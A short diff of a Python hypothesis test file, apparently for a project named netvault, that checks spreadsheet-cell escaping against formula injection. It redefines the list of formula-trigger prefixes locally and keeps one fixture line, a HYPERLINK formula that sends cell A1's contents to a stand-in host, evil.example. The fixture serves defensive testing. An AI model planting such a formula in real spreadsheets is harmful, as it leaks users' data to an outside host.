@@ -12,8 +12,7 @@ from conftest import Vault
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from netvault.spreadsheet import FORMULA_STARTS, escape_cell, unescape_cell
-
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
@@ -59,6 +58,8 @@ def test_an_escaped_export_imports_back_unchanged(vault: Vault) -> None:
 @settings(max_examples=200, deadline=None)
 @given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1(). /"), max_size=12))
 def test_escape_then_unescape_is_the_identity(cell: str) -> None:
+    from netvault.spreadsheet import escape_cell, unescape_cell
+
     escaped = escape_cell(cell)
     assert unescape_cell(escaped) == cell
     assert not escaped.startswith(FORMULA_STARTS) or (
